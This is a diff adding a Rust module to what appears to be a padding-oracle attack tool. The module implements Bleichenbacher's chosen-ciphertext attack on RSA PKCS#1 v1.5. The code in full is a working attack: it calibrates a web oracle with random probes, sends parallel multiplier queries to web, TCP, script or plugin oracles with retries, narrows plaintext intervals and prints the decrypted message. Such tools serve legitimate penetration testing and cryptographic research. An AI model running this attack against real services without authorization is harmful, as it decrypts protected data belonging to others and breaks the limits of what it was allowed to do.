@@ -0,0 +1,764 @@
+use std::{
+    collections::HashMap,
+    fs::{self, create_dir_all},
+    io::ErrorKind,
+    iter,
+    path::{Path, PathBuf},
+    process,
+    sync::atomic::{AtomicU64, Ordering},
+    thread,
+    time::{Duration, Instant},
+};
+
+use anyhow::{anyhow, Context, Result};
+use clap::StructOpt;
+use humantime::format_duration;
+use log::{debug, info, warn};
+use openssl::{
+    bn::{BigNum, BigNumContext, BigNumRef},
+    rsa::Rsa,
+    sha::Sha256,
+    x509::X509,
+};
+use rayon::iter::{IntoParallelRefIterator, ParallelIterator};
+use retry::{delay::Fibonacci, retry_with_index, OperationResult};
+
+use crate::{
+    block::Block,
+    calibrator::calibration_response::CalibrationResponse,
+    cli::{BleichenbacherCli, Cli, SubCommand},
+    config::{Config, SubConfig},
+    curl,
+    cypher_text::encode::{Encode, Encoding},
+    error::RustpadError,
+    logging::{init_plain_logging, LOG_TARGET},
+    oracle::{
+        lua::LuaOracle,
+        oracle_location::OracleLocation,
+        plugin::PluginOracle,
+        python::PythonOracle,
+        script::ScriptOracle,
+        tcp::TcpOracle,
+        web::{calibrate_web::CalibrationWebOracle, WebOracle},
+        Oracle,
+    },
+    other::{config_thread_pool, RETRY_DELAY_MS, RETRY_MAX_ATTEMPTS},
+    plain_text_analysis::PlainTextAnalysis,
+    presets,
+    syslog::Syslog,
+};
+
+// cypher texts of random plain text questioned during calibration. Virtually none of them are PKCS#1 v1.5 conforming
+const CALIBRATION_PROBES: usize = 16;
+// progress is reported every this many narrowings of the plain text's range
+const PROGRESS_INTERVAL: usize = 64;
+// in the cache directory. Encryption blocks are up to the modulus long, so they aren't kept in the cache of CBC blocks
+const RSA_CACHE_DIR_NAME: &str = "rsa";
+
+/// Modulus and public exponent of the target's key. The oracle decrypts with the matching private key
+struct RsaPublicKey {
+    n: BigNum,
+    e: BigNum,
+    // length of the modulus, and so of cypher texts, in bytes
+    k: usize,
+}
+
+/// Cypher text of an RSA encryption, sent to the oracle in the encoding of the original
+struct RsaCypherText {
+    bytes: Vec<u8>,
+    url_encoded: bool,
+    used_encoding: Encoding,
+}
+
+/// Encryption block of a cypher text, cached in a file named after the hash of the key and the cypher text. The private key is the only one to fit the modulus, so which oracle decrypted it doesn't matter
+struct RsaCache {
+    file_path: PathBuf,
+}
+
+/// Narrows down the range of the plain text with every conforming multiple of it that's found. See "Chosen Ciphertext Attacks Against Protocols Based on the RSA Encryption Standard PKCS #1", Bleichenbacher, 1998.
+struct Attack<'a, O: Oracle> {
+    oracle: &'a O,
+    public_key: &'a RsaPublicKey,
+    original: &'a RsaCypherText,
+    requests: AtomicU64,
+}
+
+/// Decrypt an RSA cypher text by questioning an oracle about PKCS#1 v1.5 conformance. The oracle is set up with the usual sub-commands, so web oracles are calibrated and requests limited, retried and cached as in the CBC attack.
+pub(super) fn bleichenbacher(bleichenbacher_cli: BleichenbacherCli) -> Result<()> {
+    let public_key = RsaPublicKey::load(bleichenbacher_cli.public_key_file())?;
+    let config = oracle_config(bleichenbacher_cli.oracle_options())?;
+    config_thread_pool(config.thread_count())?;
+    let syslog = config
+        .syslog()
+        .as_ref()
+        .map(|destination| Syslog::connect(destination, Some(config.oracle_location())))
+        .transpose()?;
+    // there's no TUI, so progress is logged to stderr
+    init_plain_logging(
+        *config.log_level(),
+        config.output_file().as_deref(),
+        syslog,
+        None,
+    )?;
+
+    let cypher_text = RsaCypherText::from_config(&config, &public_key)?;
+    info!(
+        target: LOG_TARGET,
+        "Attacking a {} bit RSA key",
+        public_key.n.num_bits()
+    );
+
+    let cache = if *config.no_cache() {
+        None
+    } else {
+        Some(RsaCache::new(&public_key, &cypher_text)?)
+    };
+    if let Some(encryption_block) = cache.as_ref().map(RsaCache::get).transpose()?.flatten() {
+        info!(target: LOG_TARGET, "Plain text found in the cache");
+        return report(&config, &encryption_block);
+    }
+
+    info!(
+        target: LOG_TARGET,
+        "Using {} oracle",
+        config.oracle_location().kind()
+    );
+    let start = Instant::now();
+    let location = config.oracle_location();
+    let sub_config = config.sub_config();
+    let encryption_block = match location {
+        OracleLocation::Web(_) => run_with(
+            &open_web_oracle(&config, &public_key, &cypher_text)?,
+            &public_key,
+            &cypher_text,
+        )?,
+        OracleLocation::Script(_) => run_with(
+            &ScriptOracle::visit(location, sub_config)?,
+            &public_key,
+            &cypher_text,
+        )?,
+        OracleLocation::Tcp(_) => run_with(
+            &TcpOracle::visit(location, sub_config)?,
+            &public_key,
+            &cypher_text,
+        )?,
+        OracleLocation::Plugin(_) => run_with(
+            &PluginOracle::visit(location, sub_config)?,
+            &public_key,
+            &cypher_text,
+        )?,
+        OracleLocation::Lua(_) => run_with(
+            &LuaOracle::visit(location, sub_config)?,
+            &public_key,
+            &cypher_text,
+        )?,
+        OracleLocation::Python(_) => run_with(
+            &PythonOracle::visit(location, sub_config)?,
+            &public_key,
+            &cypher_text,
+        )?,
+    };
+    info!(
+        target: LOG_TARGET,
+        "The oracle talked some gibberish. It took {}",
+        format_duration(Duration::new(start.elapsed().as_secs(), 0))
+    );
+
+    if let Some(cache) = &cache {
+        cache.insert(&encryption_block)?;
+    }
+    report(&config, &encryption_block)
+}
+
+/// Visit and calibrate the web oracle
+fn open_web_oracle(
+    config: &Config,
+    public_key: &RsaPublicKey,
+    cypher_text: &RsaCypherText,
+) -> Result<WebOracle> {
+    let mut oracle = WebOracle::visit(config.oracle_location(), config.sub_config())?;
+    oracle.watch_maintenance(cypher_text);
+    oracle.set_padding_error_response(Some(calibrate_web(config, public_key, cypher_text)?));
+    Ok(oracle)
+}
+
+/// Attack with the oracle, whichever kind it is
+fn run_with<O: Oracle>(
+    oracle: &O,
+    public_key: &RsaPublicKey,
+    cypher_text: &RsaCypherText,
+) -> Result<Vec<u8>> {
+    Attack::new(oracle, public_key, cypher_text).run()
+}
+
+/// Config of the oracle sub-command, as if it were given on the command line. It requires a block size, which is meaningless for RSA
+fn oracle_config(oracle_options: &[String]) -> Result<Config> {
+    let args = [env!("CARGO_PKG_NAME").to_string()]
+        .into_iter()
+        .chain(oracle_options.iter().cloned())
+        .chain(["--block-size=1".to_string()]);
+    let cli = Cli::try_parse_from(presets::expand(curl::expand(args)?)?)
+        .context("Invalid oracle options")?;
+    if !matches!(
+        cli.sub_command,
+        SubCommand::Web(_)
+            | SubCommand::Script(_)
+            | SubCommand::Tcp(_)
+            | SubCommand::Plugin(_)
+            | SubCommand::Lua(_)
+            | SubCommand::Python(_)
+    ) {
+        return Err(anyhow!(
+            "Give the oracle as a `web`, `script`, `tcp`, `plugin`, `lua` or `python` sub-command after `--`"
+        ));
+    }
+
+    let config = Config::try_from(cli)?;
+    if config.plain_text().is_some() {
+        return Err(anyhow!(
+            "The Bleichenbacher attack only decrypts. Encrypt with the public key instead"
+        ));
+    }
+    Ok(config)
+}
+
+/// Find the padding error response with cypher texts of random plain text, which are virtually never conforming. The original, which is conforming, must get another response
+fn calibrate_web(
+    config: &Config,
+    public_key: &RsaPublicKey,
+    cypher_text: &RsaCypherText,
+) -> Result<CalibrationResponse> {
+    if let SubConfig::Web(web_config) = config.sub_config() {
+        if let Some(padding_error_response) =
+            CalibrationResponse::from_overrides(web_config.padding_error_overrides())
+        {
+            info!(
+                target: LOG_TARGET,
+                "Skipping calibration, using the given padding error response"
+            );
+            return Ok(padding_error_response);
+        }
+    }
+
+    info!(target: LOG_TARGET, "Calibrating web oracle...");
+    let mut calibration_oracle =
+        CalibrationWebOracle::visit(config.oracle_location(), config.sub_config())?;
+    calibration_oracle.watch_maintenance(cypher_text);
+    let (original_response, _) = calibration_oracle.ask_validation(cypher_text)?;
+
+    let c = BigNum::from_slice(&cypher_text.bytes)?;
+    let mut ctx = BigNumContext::new()?;
+    let probes = (0..CALIBRATION_PROBES)
+        .map(|_| {
+            let s = random_multiplier(&public_key.n)?;
+            let probe = public_key.multiply(&c, &s, &mut ctx)?;
+            cypher_text.with_value(&probe, public_key.k)
+        })
+        .collect::<Result<Vec<_>>>()?;
+    let responses = probes
+        .par_iter()
+        .map(|probe| {
+            calibration_oracle
+                .ask_validation(probe)
+                .map(|(response, _)| response)
+        })
+        .collect::<Result<Vec<_>>>()
+        .map_err(|e| RustpadError::OracleUnreachable {
+            reason: format!("{:#}", e),
+        })
+        .context("Failed to contact web oracle for calibration")?;
+
+    // false positive, the hashmap's key (`response`) is obviously not mutable
+    #[allow(clippy::mutable_key_type)]
+    let counted_responses = responses.into_iter().fold(
+        HashMap::new(),
+        |mut acc: HashMap<CalibrationResponse, usize>, response| {
+            *acc.entry(response).or_default() += 1;
+            acc
+        },
+    );
+    let (padding_error_response, seen) = counted_responses
+        .into_iter()
+        .max_by_key(|(_, seen)| *seen)
+        .expect("Calibration questions at least 1 probe");
+    if padding_error_response.matches(&original_response) {
+        return Err(RustpadError::CalibrationFailed {
+            reason: "The original cypher text got the same response as cypher texts of random plain text. Either it isn't PKCS#1 v1.5 conforming, or the difference is in the body: try adding the `--consider-body` flag, or pass the padding error response with the `--padding-error-*` options".to_string(),
+        }
+        .into());
+    }
+
+    info!(
+        target: LOG_TARGET,
+        "Calibrated the web oracle! Using parameters:"
+    );
+    info!(
+        target: LOG_TARGET,
+        "- Confidence: {} of {} probes look like padding errors",
+        seen,
+        CALIBRATION_PROBES
+    );
+    Ok(padding_error_response)
+}
+
+/// Print the message, and write it to `--output-plaintext`. The whole encryption block is given if it isn't PKCS#1 v1.5 padded
+fn report(config: &Config, encryption_block: &[u8]) -> Result<()> {
+    let message = unpad(encryption_block).unwrap_or_else(|| {
+        warn!(
+            target: LOG_TARGET,
+            "The plain text isn't PKCS#1 v1.5 padded. Giving the whole encryption block"
+        );
+        encryption_block
+    });
+
+    if let Some(plain_text_file) = config.plain_text_file() {
+        fs::write(plain_text_file, message).context(format!(
+            "Writing the plain text to `{}` failed",
+            plain_text_file.display()
+        ))?;
+    }
+
+    let printable_message = match std::str::from_utf8(message) {
+        Ok(text) => text.to_string(),
+        Err(_) => hex::encode(message),
+    };
+    info!(
+        target: LOG_TARGET,
+        "Their divination is: {}", printable_message
+    );
+    println!("{}", printable_message);
+
+    for line in PlainTextAnalysis::new(message, None).lines(*config.analyze()) {
+        info!(target: LOG_TARGET, "{}", line);
+        println!("{}", line);
+    }
+    Ok(())
+}
+
+/// The message of a PKCS#1 v1.5 encryption block: `00 02 <at least 8 non-zero bytes> 00 <message>`
+fn unpad(encryption_block: &[u8]) -> Option<&[u8]> {
+    if encryption_block.len() < 11 || encryption_block[0] != 0x00 || encryption_block[1] != 0x02 {
+        return None;
+    }
+
+    let separator = encryption_block[2..]
+        .iter()
+        .position(|byte| *byte == 0x00)?
+        + 2;
+    if separator < 10 {
+        return None;
+    }
+    Some(&encryption_block[separator + 1..])
+}
+
+impl RsaPublicKey {
+    /// Load the key from a PEM file, holding either a public key or a certificate
+    fn load(path: &Path) -> Result<Self> {
+        let pem = fs::read(path).context(format!(
+            "Public key file `{}` failed to open",
+            path.display()
+        ))?;
+        let rsa = Rsa::public_key_from_pem(&pem)
+            .or_else(|_| Rsa::public_key_from_pem_pkcs1(&pem))
+            .or_else(|_| {
+                X509::from_pem(&pem)
+                    .and_then(|certificate| certificate.public_key())
+                    .and_then(|public_key| public_key.rsa())
+            })
+            .context(format!(
+                "`{}` holds no RSA public key or certificate, as PEM",
+                path.display()
+            ))?;
+
+        Ok(Self {
+            n: rsa.n().to_owned()?,
+            e: rsa.e().to_owned()?,
+            k: rsa.size() as usize,
+        })
+    }
+
+    /// `c * s^e mod n`, i.e. the cypher text of the plain text of `c` multiplied by `s`
+    fn multiply(&self, c: &BigNumRef, s: &BigNumRef, ctx: &mut BigNumContext) -> Result<BigNum> {
+        let mut s_e = BigNum::new()?;
+        s_e.mod_exp(s, &self.e, &self.n, ctx)?;
+        let mut product = BigNum::new()?;
+        product.mod_mul(c, &s_e, &self.n, ctx)?;
+        Ok(product)
+    }
+}
+
+impl RsaCache {
+    fn new(public_key: &RsaPublicKey, cypher_text: &RsaCypherText) -> Result<Self> {
+        let cache_dir = dirs::cache_dir()
+            .map(|dir| dir.join(env!("CARGO_PKG_NAME")))
+            .unwrap_or_else(|| PathBuf::from("./cache"))
+            .join(RSA_CACHE_DIR_NAME);
+        create_dir_all(&cache_dir).context("Cache directory creation failed")?;
+
+        // the modulus is length-prefixed, so no other pair of modulus and cypher text hashes the same bytes
+        let modulus = public_key.n.to_vec();
+        let mut hasher = Sha256::new();
+        hasher.update(&(modulus.len() as u64).to_be_bytes());
+        hasher.update(&modulus);
+        hasher.update(&cypher_text.bytes);
+
+        Ok(Self {
+            file_path: cache_dir.join(hex::encode(hasher.finish())),
+        })
+    }
+
+    fn get(&self) -> Result<Option<Vec<u8>>> {
+        match fs::read(&self.file_path) {
+            Ok(encryption_block) => Ok(Some(encryption_block)),
+            Err(e) if e.kind() == ErrorKind::NotFound => Ok(None),
+            Err(e) => Err(e).context(format!(
+                "Cache file `{}` read failure",
+                self.file_path.display()
+            )),
+        }
+    }
+
+    /// Written to a temporary file 1st, so a crash mid-write leaves no partial encryption block behind
+    fn insert(&self, encryption_block: &[u8]) -> Result<()> {
+        let temp_file_path = self
+            .file_path
+            .with_extension(format!("{}.tmp", process::id()));
+        let written = fs::write(&temp_file_path, encryption_block)
+            .context("Cache could not be saved")
+            .and_then(|_| {
+                fs::rename(&temp_file_path, &self.file_path).context(format!(
+                    "Cache file `{}` could not be replaced",
+                    self.file_path.display()
+                ))
+            });
+        if written.is_err() {
+            let _ = fs::remove_file(&temp_file_path);
+        }
+
+        written
+    }
+}
+
+impl RsaCypherText {
+    /// The cypher text of the oracle sub-command, parsed with a block size of 1 byte
+    fn from_config(config: &Config, public_key: &RsaPublicKey) -> Result<Self> {
+        let bytes: Vec<u8> = config
+            .cypher_text()
+            .blocks()
+            .iter()
+            .flat_map(|block| &**block)
+            .cloned()
+            .collect();
+        if bytes.len() > public_key.k {
+            return Err(anyhow!(
+                "The cypher text is {} bytes long, but cypher texts of a {} bit key are at most {} bytes long. Double check the public key",
+                bytes.len(),
+                public_key.n.num_bits(),
+                public_key.k
+            ));
+        }
+
+        // leading zeroes may have been stripped by the target
+        let mut padded = vec![0; public_key.k - bytes.len()];
+        padded.extend(bytes);
+        Ok(Self {
+            bytes: padded,
+            url_encoded: *config.cypher_text().url_encoded(),
+            used_encoding: *config.cypher_text().used_encoding(),
+        })
+    }
+
+    /// Another cypher text, encoded the same way
+    fn with_value(&self, value: &BigNumRef, k: usize) -> Result<Self> {
+        Ok(Self {
+            bytes: value.to_vec_padded(k as i32)?,
+            url_encoded: self.url_encoded,
+            used_encoding: self.used_encoding,
+        })
+    }
+}
+
+impl<'a> Encode<'a> for RsaCypherText {
+    type Blocks = &'a [Block];
+
+    fn encode(&'a self) -> String {
+        let encoded_data = self.used_encoding.encode(&self.raw_bytes());
+
+        if self.url_encoded {
+            urlencoding::encode(&encoded_data).to_string()
+        } else {
+            encoded_data
+        }
+    }
+
+    fn raw_bytes(&'a self) -> Vec<u8> {
+        self.bytes.clone()
+    }
+
+    // RSA doesn't work on blocks
+    fn blocks(&'a self) -> Self::Blocks {
+        &[]
+    }
+
+    fn url_encoded(&self) -> &bool {
+        &self.url_encoded
+    }
+
+    fn used_encoding(&self) -> &Encoding {
+        &self.used_encoding
+    }
+}
+
+impl<'a, O: Oracle> Attack<'a, O> {
+    fn new(oracle: &'a O, public_key: &'a RsaPublicKey, original: &'a RsaCypherText) -> Self {
+        Self {
+            oracle,
+            public_key,
+            original,
+            requests: AtomicU64::new(0),
+        }
+    }
+
+    /// The encryption block, i.e. the padded plain text
+    fn run(&self) -> Result<Vec<u8>> {
+        let n = &self.public_key.n;
+        let one = BigNum::from_u32(1)?;
+        // conforming plain texts start with `00 02`, so lie in [2B, 3B)
+        let b = &one << (8 * (self.public_key.k as i32 - 2));
+        let b2 = &b * &BigNum::from_u32(2)?;
+        let b3 = &b * &BigNum::from_u32(3)?;
+        let c = BigNum::from_slice(&self.original.bytes)?;
+        let mut ctx = BigNumContext::new()?;
+
+        // step 1: blinding, to get a conforming cypher text to start from
+        let s0 = if self.conforming(&c, &one)? {
+            one.to_owned()?
+        } else {
+            info!(
+                target: LOG_TARGET,
+                "The cypher text isn't conforming. Blinding it with random multipliers..."
+            );
+            self.find_conforming(&c, &mut iter::from_fn(|| random_multiplier(n).ok()))?
+        };
+        let c0 = self.public_key.multiply(&c, &s0, &mut ctx)?;
+
+        let mut intervals = vec![(b2.to_owned()?, &b3 - &one)];
+        // step 2a: the smallest multiplier which can lead to conformance
+        let mut s = self.find_conforming(&c0, &mut counting_from(ceil_div(n, &b3)?))?;
+        intervals = narrow(&intervals, &s, n, &b2, &b3)?;
+
+        let mut iteration = 1;
+        while intervals.len() > 1 || intervals[0].0 != intervals[0].1 {
+            s = if intervals.len() > 1 {
+                // step 2b: multiple ranges remain, search linearly
+                self.find_conforming(&c0, &mut counting_from(&s + &one))?
+            } else {
+                // step 2c: a single range remains, roughly halve it with each multiplier
+                let (a, b) = &intervals[0];
+                self.find_conforming(
+                    &c0,
+                    &mut single_interval_multipliers(a, b, &s, n, &b2, &b3)?,
+                )?
+            };
+            // step 3
+            intervals = narrow(&intervals, &s, n, &b2, &b3)?;
+
+            iteration += 1;
+            let unknown_bits: i32 = intervals.iter().map(|(a, b)| (b - a).num_bits()).sum();
+            debug!(
+                target: LOG_TARGET,
+                "Iteration {}: {} interval(s), {} bit(s) unknown",
+                iteration,
+                intervals.len(),
+                unknown_bits
+            );
+            if iteration % PROGRESS_INTERVAL == 0 {
+                info!(
+                    target: LOG_TARGET,
+                    "Iteration {}: {} bit(s) of the plain text unknown, after {} request(s)",
+                    iteration,
+                    unknown_bits,
+                    self.requests.load(Ordering::Relaxed)
+                );
+            }
+        }
+        info!(
+            target: LOG_TARGET,
+            "Found the plain text after {} request(s)",
+            self.requests.load(Ordering::Relaxed)
+        );
+
+        // step 4: undo the blinding
+        let mut s0_inverse = BigNum::new()?;
+        s0_inverse.mod_inverse(&s0, n, &mut ctx)?;
+        let mut m = BigNum::new()?;
+        m.mod_mul(&intervals[0].0, &s0_inverse, n, &mut ctx)?;
+        Ok(m.to_vec_padded(self.public_key.k as i32)?)
+    }
+
+    /// Whether the plain text of `c * s^e` is PKCS#1 v1.5 conforming, according to the oracle. Questions which fail are retried
+    fn conforming(&self, c: &BigNumRef, s: &BigNumRef) -> Result<bool> {
+        let mut ctx = BigNumContext::new()?;
+        let value = self.public_key.multiply(c, s, &mut ctx)?;
+        let cypher_text = self.original.with_value(&value, self.public_key.k)?;
+
+        thread::sleep(**self.oracle.thread_delay());
+        self.requests.fetch_add(1, Ordering::Relaxed);
+        retry_with_index(Fibonacci::from_millis(RETRY_DELAY_MS), |attempt| match self
+            .oracle
+            .ask_validation(&cypher_text)
+        {
+            Ok(verdict) => OperationResult::Ok(verdict),
+            Err(e) if RustpadError::is_fatal(&e) || attempt > RETRY_MAX_ATTEMPTS => {
+                OperationResult::Err(e)
+            }
+            Err(e) => {
+                warn!(
+                    target: LOG_TARGET,
+                    "Retrying validation ({}/{})", attempt, RETRY_MAX_ATTEMPTS
+                );
+                debug!(target: LOG_TARGET, "{:?}", e);
+                OperationResult::Retry(e)
+            }
+        })
+        .map_err(|e| match e {
+            retry::Error::Operation { error, .. } => error,
+            retry::Error::Internal(reason) => anyhow!(reason),
+        })
+    }
+
+    /// The first multiplier of `candidates` which makes `c` conforming. Candidates are questioned in batches, spread over the thread pool
+    fn find_conforming(
+        &self,
+        c: &BigNumRef,
+        candidates: &mut impl Iterator<Item = BigNum>,
+    ) -> Result<BigNum> {
+        let batch_size = rayon::current_num_threads();
+        loop {
+            let mut batch: Vec<BigNum> = candidates.by_ref().take(batch_size).collect();
+            if batch.is_empty() {
+                return Err(anyhow!("Ran out of multipliers to try"));
+            }
+
+            let verdicts = batch
+                .par_iter()
+                .map(|s| self.conforming(c, s))
+                .collect::<Result<Vec<_>>>()?;
+            if let Some(idx) = verdicts.iter().position(|conforming| *conforming) {
+                return Ok(batch.swap_remove(idx));
+            }
+        }
+    }
+}
+
+/// Ranges which hold the plain text, given that it's in `intervals` and that its multiple by `s` is conforming. Overlapping ranges are merged. Fails if none remain
+fn narrow(
+    intervals: &[(BigNum, BigNum)],
+    s: &BigNumRef,
+    n: &BigNumRef,
+    b2: &BigNumRef,
+    b3: &BigNumRef,
+) -> Result<Vec<(BigNum, BigNum)>> {
+    let b3_minus_1 = b3 - &BigNum::from_u32(1)?;
+
+    let mut narrowed = Vec::new();
+    for (a, b) in intervals {
+        // m * s - r * n lies in [2B, 3B)
+        let mut r = ceil_div(&(&(a * s) - &b3_minus_1), n)?;
+        let r_end = &(&(b * s) - b2) / n;
+        while r <= r_end {
+            let rn = &r * n;
+            let low = ceil_div(&(b2 + &rn), s)?;
+            let high = &(&b3_minus_1 + &rn) / s;
+            let low = if &low > a {
+                low
+            } else {
+                BigNumRef::to_owned(a)?
+            };
+            let high = if &high < b {
+                high
+            } else {
+                BigNumRef::to_owned(b)?
+            };
+            if low <= high {
+                narrowed.push((low, high));
+            }
+            r.add_word(1)?;
+        }
+    }
+
+    narrowed.sort_by(|(a, _), (other_a, _)| a.cmp(other_a));
+    let mut merged: Vec<(BigNum, BigNum)> = Vec::with_capacity(narrowed.len());
+    for (a, b) in narrowed {
+        match merged.last_mut() {
+            Some((_, last_b)) if a <= *last_b => {
+                if b > *last_b {
+                    *last_b = b;
+                }
+            }
+            _ => merged.push((a, b)),
+        }
+    }
+
+    if merged.is_empty() {
+        return Err(anyhow!(
+            "No plain text fits the oracle's answers. It must have answered inconsistently, e.g. by not checking the padding strictly as PKCS#1 v1.5 conformance"
+        ));
+    }
+    Ok(merged)
+}
+
+/// Multipliers for a single remaining range [a, b]. For increasing `r`, those which would map the range onto [2B, 3B) after reduction by `r * n`
+fn single_interval_multipliers(
+    a: &BigNumRef,
+    b: &BigNumRef,
+    s: &BigNumRef,
+    n: &BigNumRef,
+    b2: &BigNumRef,
+    b3: &BigNumRef,
+) -> Result<impl Iterator<Item = BigNum>> {
+    let (a, b, n, b2, b3) = (
+        BigNumRef::to_owned(a)?,
+        BigNumRef::to_owned(b)?,
+        n.to_owned()?,
+        b2.to_owned()?,
+        b3.to_owned()?,
+    );
+    let mut r = ceil_div(&(&(&(&b * s) - &b2) * &BigNum::from_u32(2)?), &n)?;
+    let mut s_next = BigNum::new()?;
+    let mut s_end = BigNum::new()?;
+
+    Ok(iter::from_fn(move || loop {
+        if s_next < s_end {
+            let s = s_next.to_owned().ok()?;
+            s_next.add_word(1).ok()?;
+            return Some(s);
+        }
+
+        let rn = &r * &n;
+        s_next = ceil_div(&(&b2 + &rn), &b).ok()?;
+        s_end = ceil_div(&(&b3 + &rn), &a).ok()?;
+        r.add_word(1).ok()?;
+    }))
+}
+
+/// `start`, `start + 1`, ...
+fn counting_from(start: BigNum) -> impl Iterator<Item = BigNum> {
+    iter::successors(Some(start), |s| {
+        let mut next = BigNumRef::to_owned(s).ok()?;
+        next.add_word(1).ok()?;
+        Some(next)
+    })
+}
+
+fn ceil_div(dividend: &BigNumRef, divisor: &BigNumRef) -> Result<BigNum> {
+    let mut rounded_up = dividend + divisor;
+    rounded_up.sub_word(1)?;
+    Ok(&rounded_up / divisor)
+}
+
+fn random_multiplier(n: &BigNumRef) -> Result<BigNum> {
+    let mut s = BigNum::new()?;
+    n.rand_range(&mut s)?;
+    Ok(s)
+}